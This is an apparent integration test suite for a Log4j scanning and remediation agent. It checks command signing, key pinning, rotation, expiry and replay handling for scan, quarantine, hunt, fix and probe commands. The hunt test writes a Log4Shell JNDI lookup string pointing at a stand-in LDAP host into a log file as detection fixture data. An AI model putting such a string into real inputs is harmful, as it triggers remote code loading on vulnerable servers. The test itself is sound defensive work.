import { randomUUID } from 'node:crypto';
import { createHash } from 'node:crypto';
import { copyFile, mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import pino from 'pino';
import {
  CommandState,
  HuntCommand,
  generateSigningKey,
  signCommand,
  signRotation,
  type AgentMessage,
  type Command,
} from '@log4fleet/contracts';
import { scanFile, type ScanOptions, type ScanSummary } from '@log4fleet/scanner';
import { enroll } from '../src/daemon/enroll';
import { startDaemon, type RunningDaemon } from '../src/daemon/run';
import type { ScanFn } from '../src/daemon/scan-mapping';
import { FakeController } from './support/fake-controller';
import { waitFor } from './support/wait';

const FIX_JAR = path.join(
  __dirname,
  '../../../libs/remediation/test/fixtures/log4j-core-2.14.1.jar',
);
const sha256 = (b: Buffer): string => createHash('sha256').update(b).digest('hex');

// Command signing, agent side, over real gRPC: the daemon refuses (FAILED with the reason)
// every command not signed for it by the key it pinned, and follows key rotations.

const hostFacts = () =>
  Promise.resolve({
    hostname: 'web-1',
    fqdn: 'web-1.example',
    machineId: 'm1',
    osName: 'Debian',
    osVersion: '12',
    kernel: '6.1',
    arch: 'x64',
    addresses: ['10.0.0.5'],
  });

function scanCommand(overrides: Partial<Command> = {}): Command {
  return {
    id: randomUUID(),
    issuedAtMs: Date.now(),
    expiresAtMs: Date.now() + 600_000,
    kind: {
      $case: 'scan',
      value: {
        paths: [Buffer.from('/srv')],
        exclude: [],
        includeNetworkFs: false,
        oneFileSystem: false,
        maxDepth: 0,
        maxNestedBytes: 0,
        threads: 0,
        nice: false,
        processes: false,
        processesOnly: false,
      },
    },
    signature: Buffer.alloc(0),
    agentId: '',
    ...overrides,
  };
}

function probeCommand(): Command {
  return {
    ...scanCommand(),
    kind: {
      $case: 'probe',
      value: { targets: [], ratePerSecond: 0, maxRequests: 0, timeBudgetSeconds: 0 },
    },
  };
}

function countingScan(): { scan: ScanFn; calls: ScanOptions[] } {
  const calls: ScanOptions[] = [];
  const scan: ScanFn = (options: ScanOptions) => {
    calls.push(options);
    const now = new Date().toISOString();
    const summary: ScanSummary = {
      files: 0,
      directories: 1,
      archives: 0,
      bytes: 0,
      findings: 0,
      errors: 0,
      vulnerable: 0,
      mitigated: 0,
      safe: 0,
      unknown: 0,
      durationMs: 1,
      startedAt: now,
      finishedAt: now,
    };
    return Promise.resolve(summary);
  };
  return { scan, calls };
}

describe('command signing: the agent daemon against a real gRPC server', () => {
  let controller: FakeController;
  let stateDir: string;
  let daemon: RunningDaemon | undefined;
  let agentId: string;
  let scans: ReturnType<typeof countingScan>;

  beforeEach(async () => {
    controller = new FakeController();
    await controller.start();
    stateDir = path.join(await mkdtemp(path.join(os.tmpdir(), 'signing-it-')), 'state');
    controller.tokens.add('tok-1');
    const { credentials } = await enroll({
      stateDir,
      controllerUrl: controller.url,
      token: 'tok-1',
      insecure: true,
      force: false,
      agentVersion: 'test',
      timeoutMs: 5000,
      hostFacts,
    });
    agentId = credentials.agentId;
    scans = countingScan();
  });

  afterEach(async () => {
    await daemon?.stop();
    daemon = undefined;
    controller.stop();
    await rm(path.dirname(stateDir), { recursive: true, force: true });
  });

  let probes = 0;
  async function run(containmentTools?: { nft: string; conntrack: string }): Promise<void> {
    probes = 0;
    daemon = await startDaemon({
      ...(containmentTools ? { containmentTools } : {}),
      stateDir,
      log: pino({ level: 'silent' }),
      scan: scans.scan,
      probe: () => {
        probes++;
        return Promise.resolve({
          startedAt: new Date().toISOString(),
          finishedAt: new Date().toISOString(),
          responders: {
            ldap: { address: '127.0.0.1', port: 1 },
            dns: { address: '127.0.0.1', port: 2 },
          },
          targets: [],
          findings: [],
          unmatched: [],
          errors: [],
        });
      },
      agentVersion: 'test',
      heartbeatMs: 100,
      reconnectWindowMs: 100,
      backoff: { initialMs: 50, maxMs: 500 },
    });
    await waitFor(() => controller.isConnected(agentId), 'the control stream');
  }

  function finalUpdate(commandId: string): AgentMessage['kind'] | undefined {
    return controller
      .updates(agentId, commandId)
      .map((m) => m.kind)
      .find(
        (k) =>
          k?.$case === 'update' &&
          (k.value.state === CommandState.COMMAND_STATE_FAILED ||
            k.value.state === CommandState.COMMAND_STATE_EXPIRED ||
            k.value.state === CommandState.COMMAND_STATE_SUCCEEDED),
      );
  }

  async function outcome(commandId: string): Promise<{ state: CommandState; message: string }> {
    await waitFor(() => finalUpdate(commandId) !== undefined, `the outcome of ${commandId}`);
    const kind = finalUpdate(commandId);
    if (kind?.$case !== 'update') throw new Error('no update');
    return { state: kind.value.state, message: kind.value.message };
  }

  /** The agent as enrolled before signing: no key pinned in its credentials. */
  async function forgetPinnedKey(): Promise<void> {
    const file = path.join(stateDir, 'credentials.json');
    const stored = JSON.parse(await readFile(file, 'utf8')) as Record<string, unknown>;
    await writeFile(file, JSON.stringify({ ...stored, commandSigningKey: '' }), { mode: 0o600 });
  }

  /** The controller presents its key on the stream; resolves once the agent pinned it. */
  async function presentKeyAndWaitPinned(): Promise<void> {
    controller.pushMessage(agentId, {
      kind: {
        $case: 'signingKeys',
        value: { firstKey: controller.signingKey.publicKey, rotations: [] },
      },
    });
    await waitFor(
      async () => (await pinnedKey()) === controller.signingKey.publicKey.toString('base64'),
      'the presented key pinned',
    );
  }

  async function pinnedKey(): Promise<string> {
    const stored = JSON.parse(await readFile(path.join(stateDir, 'credentials.json'), 'utf8')) as {
      commandSigningKey: string;
    };
    return stored.commandSigningKey;
  }

  it('pins the key given at enrollment and runs a command signed by it', async () => {
    expect(await pinnedKey()).toBe(controller.signingKey.publicKey.toString('base64'));
    await run();
    const command = scanCommand();
    controller.push(agentId, command);
    expect(await outcome(command.id)).toMatchObject({
      state: CommandState.COMMAND_STATE_SUCCEEDED,
    });
    expect(scans.calls).toHaveLength(1);
  });

  const refused: Array<[string, (agent: string) => Command, RegExp]> = [
    ['unsigned', () => ({ ...scanCommand(), agentId }), /refused \(unsigned\)/],
    [
      'foreign: signed by another controller key',
      (agent) => signCommand(scanCommand(), agent, generateSigningKey().privateKey),
      /refused \(foreign\)/,
    ],
    [
      'misaddressed: signed for another agent',
      () => signCommand(scanCommand(), randomUUID(), controller.signingKey.privateKey),
      /refused \(misaddressed\)/,
    ],
    [
      'tampered after signing',
      (agent) => {
        const signed = signCommand(scanCommand(), agent, controller.signingKey.privateKey);
        return { ...signed, expiresAtMs: signed.expiresAtMs + 1 };
      },
      /refused \(foreign\)/,
    ],
  ];
  it.each(refused)(
    'refuses a command that is %s: FAILED with the reason, never run',
    async (_n, make, reason) => {
      await run();
      const command = make(agentId);
      controller.pushAsIs(agentId, command);
      const result = await outcome(command.id);
      expect(result.state).toBe(CommandState.COMMAND_STATE_FAILED);
      expect(result.message).toMatch(reason);
      expect(scans.calls).toHaveLength(0);
    },
  );

  /**
   * nft and conntrack replaced by a recorder (argv to a file, then a refusal): a quarantine
   * that reached the library leaves a line, so "refused and changes nothing on the host" is
   * checked on this machine without touching its firewall.
   */
  async function recordingTools(): Promise<{
    nft: string;
    conntrack: string;
    calls: () => Promise<string>;
  }> {
    const dir = path.dirname(stateDir);
    const log = path.join(dir, 'tool-calls.log');
    const script = path.join(dir, 'tool-recorder.sh');
    await writeFile(script, `#!/bin/sh\necho "$0 $*" >> '${log}'\nexit 1\n`, { mode: 0o755 });
    await writeFile(log, '');
    return { nft: script, conntrack: script, calls: () => readFile(log, 'utf8') };
  }

  function quarantineCommand(overrides: Partial<Command> = {}): Command {
    return scanCommand({
      kind: {
        $case: 'quarantine',
        value: {
          mode: 'isolate',
          allowlist: [{ cidr: '10.20.0.0/24', protocol: 'tcp', port: 22 }],
          resolvers: [],
          probe: undefined,
          deadlineS: 5,
          controllerAddresses: [],
        },
      },
      ...overrides,
    });
  }

  const refusedQuarantines: Array<[string, (agent: string) => Command, RegExp]> = [
    ['unsigned', () => ({ ...quarantineCommand(), agentId }), /refused \(unsigned\)/],
    [
      'forged: signed by another key',
      (agent) => signCommand(quarantineCommand(), agent, generateSigningKey().privateKey),
      /refused \(foreign\)/,
    ],
    [
      'meant for another agent',
      () => signCommand(quarantineCommand(), randomUUID(), controller.signingKey.privateKey),
      /refused \(misaddressed\)/,
    ],
    [
      'widened after signing (allowlist 0.0.0.0/1)',
      (agent) => {
        const signed = signCommand(quarantineCommand(), agent, controller.signingKey.privateKey);
        const widened = quarantineCommand().kind;
        if (widened?.$case === 'quarantine')
          widened.value.allowlist = [{ cidr: '0.0.0.0/1', protocol: 'tcp', port: 0 }];
        return { ...signed, kind: widened };
      },
      /refused \(foreign\)/,
    ],
  ];
  it.each(refusedQuarantines)(
    'refuses a quarantine that is %s: FAILED with the reason, nft never run',
    async (_n, make, reason) => {
      const tools = await recordingTools();
      await run(tools);
      const command = make(agentId);
      controller.pushAsIs(agentId, command);
      const result = await outcome(command.id);
      expect(result.state).toBe(CommandState.COMMAND_STATE_FAILED);
      expect(result.message).toMatch(reason);
      expect(await tools.calls()).toBe('');
    },
  );

  it('an expired signed quarantine is EXPIRED and a replayed one is acknowledged, nft run only once', async () => {
    const tools = await recordingTools();
    await run(tools);
    const expired = signCommand(
      quarantineCommand({ issuedAtMs: Date.now() - 120_000, expiresAtMs: Date.now() - 60_000 }),
      agentId,
      controller.signingKey.privateKey,
    );
    controller.pushAsIs(agentId, expired);
    expect((await outcome(expired.id)).state).toBe(CommandState.COMMAND_STATE_EXPIRED);
    expect(await tools.calls()).toBe('');

    const genuine = signCommand(quarantineCommand(), agentId, controller.signingKey.privateKey);
    controller.pushAsIs(agentId, genuine);
    // The recorder refuses everything: the library fails it clearly, never an empty success.
    const first = await outcome(genuine.id);
    expect(first.state).toBe(CommandState.COMMAND_STATE_FAILED);
    expect(first.message).toMatch(/^(RULES_REJECTED|CONNTRACK_MISSING|TOOL_FAILED)/);
    const calls = await tools.calls();
    expect(calls).not.toBe('');
    const before = controller.updates(agentId, genuine.id).length;
    controller.pushAsIs(agentId, genuine);
    await waitFor(
      () => controller.updates(agentId, genuine.id).length > before,
      'the replay acknowledged',
    );
    expect(await tools.calls()).toBe(calls);
  });

  function huntCommand(paths: string[]): Command {
    return {
      ...scanCommand(),
      kind: { $case: 'hunt', value: { ...HuntCommand.fromPartial({}), paths } },
    };
  }

  it('hunt: runs a signed hunt, refuses it unsigned or with parameters changed after signing', async () => {
    await run();
    const logs = path.join(path.dirname(stateDir), 'logs');
    await mkdir(logs, { recursive: true });
    await writeFile(path.join(logs, 'app.log'), '${jndi:ldap://signed.example/a}\n');
    const signed = signCommand(huntCommand([logs]), agentId, controller.signingKey.privateKey);
    controller.pushAsIs(agentId, signed);
    expect(await outcome(signed.id)).toMatchObject({ state: CommandState.COMMAND_STATE_SUCCEEDED });

    const unsigned = { ...huntCommand([logs]), agentId };
    controller.pushAsIs(agentId, unsigned);
    expect(await outcome(unsigned.id)).toMatchObject({
      state: CommandState.COMMAND_STATE_FAILED,
      message: expect.stringMatching(/refused \(unsigned\)/),
    });

    const tampered = signCommand(huntCommand([logs]), agentId, controller.signingKey.privateKey);
    controller.pushAsIs(agentId, {
      ...tampered,
      kind: { $case: 'hunt', value: { ...HuntCommand.fromPartial({}), paths: ['/'] } },
    });
    expect(await outcome(tampered.id)).toMatchObject({
      state: CommandState.COMMAND_STATE_FAILED,
      message: expect.stringMatching(/refused \(foreign\)/),
    });
  });

  it('reports a genuine command that expired before it could start as EXPIRED, never run', async () => {
    await run();
    const command = signCommand(
      scanCommand({ issuedAtMs: Date.now() - 120_000, expiresAtMs: Date.now() - 60_000 }),
      agentId,
      controller.signingKey.privateKey,
    );
    controller.pushAsIs(agentId, command);
    const result = await outcome(command.id);
    expect(result.state).toBe(CommandState.COMMAND_STATE_EXPIRED);
    expect(result.message).toMatch(/expired at/);
    expect(scans.calls).toHaveLength(0);
  });

  it('acknowledges a replayed signed command without running it again', async () => {
    await run();
    const signed = signCommand(scanCommand(), agentId, controller.signingKey.privateKey);
    controller.pushAsIs(agentId, signed);
    await outcome(signed.id);
    const before = controller.updates(agentId, signed.id).length;
    controller.pushAsIs(agentId, signed);
    await waitFor(
      () => controller.updates(agentId, signed.id).length > before,
      'the replay acknowledged',
    );
    const last = controller.updates(agentId, signed.id).at(-1)?.kind;
    expect(last?.$case === 'update' && last.value.state).toBe(CommandState.COMMAND_STATE_SUCCEEDED);
    expect(scans.calls).toHaveLength(1);
  });

  it('follows a rotation signed by the pinned key: the new key runs, the old is refused', async () => {
    await run();
    const old = controller.signingKey;
    const next = generateSigningKey();
    controller.pushMessage(agentId, {
      kind: {
        $case: 'signingKeys',
        value: {
          firstKey: old.publicKey,
          rotations: [signRotation(next.publicKey, Date.now() - 1000, old.privateKey)],
        },
      },
    });
    await waitFor(
      async () => (await pinnedKey()) === next.publicKey.toString('base64'),
      'the new key pinned',
    );
    expect((await stat(path.join(stateDir, 'credentials.json'))).mode & 0o777).toBe(0o600);
    controller.signingKey = next;
    const fresh = scanCommand();
    controller.push(agentId, fresh);
    expect((await outcome(fresh.id)).state).toBe(CommandState.COMMAND_STATE_SUCCEEDED);
    const stale = signCommand(scanCommand(), agentId, old.privateKey);
    controller.pushAsIs(agentId, stale);
    expect((await outcome(stale.id)).message).toMatch(/refused \(foreign\)/);
    expect(scans.calls).toHaveLength(1);
  });

  it('does not follow a rotation signed by another key (a forged chain)', async () => {
    await run();
    const forger = generateSigningKey();
    controller.pushMessage(agentId, {
      kind: {
        $case: 'signingKeys',
        value: {
          firstKey: controller.signingKey.publicKey,
          rotations: [signRotation(forger.publicKey, Date.now() - 1000, forger.privateKey)],
        },
      },
    });
    const forged = signCommand(scanCommand(), agentId, forger.privateKey);
    controller.pushAsIs(agentId, forged);
    expect((await outcome(forged.id)).message).toMatch(/refused \(foreign\)/);
    expect(await pinnedKey()).toBe(controller.signingKey.publicKey.toString('base64'));
  });

  function fixCommand(jar: string): Command {
    return {
      ...scanCommand(),
      kind: {
        $case: 'fix',
        value: { paths: [Buffer.from(jar)], dryRun: false, stripSignatures: false, log4j1: false },
      },
    };
  }

  async function vulnerableJar(): Promise<{ jar: string; sha: string }> {
    const jar = path.join(path.dirname(stateDir), 'log4j-core-2.14.1.jar');
    await copyFile(FIX_JAR, jar);
    return { jar, sha: sha256(await readFile(jar)) };
  }

  it('runs a signed fix: the jar on disk loses JndiLookup', async () => {
    const { jar, sha } = await vulnerableJar();
    await run();
    const command = fixCommand(jar);
    controller.push(agentId, command);
    expect((await outcome(command.id)).state).toBe(CommandState.COMMAND_STATE_SUCCEEDED);
    expect(sha256(await readFile(jar))).not.toBe(sha);
    expect(scanFile(jar).findings.map((f) => f.status)).toEqual(['mitigated']);
    expect(
      (await stat(path.join(stateDir, 'remediation', command.id, '0.orig.gz'))).size,
    ).toBeGreaterThan(0);
  });

  it('an agent without a pinned key refuses an unsigned fix (it runs unsigned scans only), jar untouched', async () => {
    const { jar, sha } = await vulnerableJar();
    await forgetPinnedKey();
    await run();
    const command = fixCommand(jar);
    controller.pushAsIs(agentId, command);
    const result = await outcome(command.id);
    expect(result.state).toBe(CommandState.COMMAND_STATE_FAILED);
    expect(result.message).toMatch(/refused/);
    expect(sha256(await readFile(jar))).toBe(sha);
  });

  it('an agent enrolled before signing runs unsigned scans until the controller presents a key, then pins it', async () => {
    await forgetPinnedKey();
    await run();
    const legacy = scanCommand();
    controller.pushAsIs(agentId, legacy);
    expect((await outcome(legacy.id)).state).toBe(CommandState.COMMAND_STATE_SUCCEEDED);
    await presentKeyAndWaitPinned();
    const unsigned = scanCommand();
    controller.pushAsIs(agentId, unsigned);
    expect((await outcome(unsigned.id)).message).toMatch(/refused \(unsigned\)/);
    const signed = scanCommand();
    controller.push(agentId, signed);
    expect((await outcome(signed.id)).state).toBe(CommandState.COMMAND_STATE_SUCCEEDED);
  });

  it('a probe runs only signed: refused unsigned, even by an agent that has no key yet; run when signed', async () => {
    await forgetPinnedKey();
    await run();
    const keyless = probeCommand();
    controller.pushAsIs(agentId, keyless);
    expect((await outcome(keyless.id)).state).toBe(CommandState.COMMAND_STATE_FAILED);

    await presentKeyAndWaitPinned();
    const unsigned = probeCommand();
    controller.pushAsIs(agentId, unsigned);
    expect((await outcome(unsigned.id)).message).toMatch(/refused \(unsigned\)/);
    expect(probes).toBe(0);

    const signed = probeCommand();
    controller.push(agentId, signed);
    expect((await outcome(signed.id)).state).toBe(CommandState.COMMAND_STATE_SUCCEEDED);
    expect(probes).toBe(1);
  });
});
